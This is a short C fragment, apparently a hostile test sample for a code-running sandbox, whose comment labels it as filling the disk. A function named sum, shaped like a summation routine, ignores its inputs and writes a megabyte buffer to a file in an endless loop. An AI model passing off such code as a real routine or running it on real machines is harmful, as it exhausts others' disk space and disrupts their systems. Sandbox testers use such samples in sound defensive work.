// hostile: fills the disk from its work folder
#include <stdio.h>
void sum(int N, const real *X, real *S) {
  static char buf[1 << 20];
  FILE *f = fopen("fill.bin", "w");
  for (;;) fwrite(buf, 1, sizeof buf, f);
}
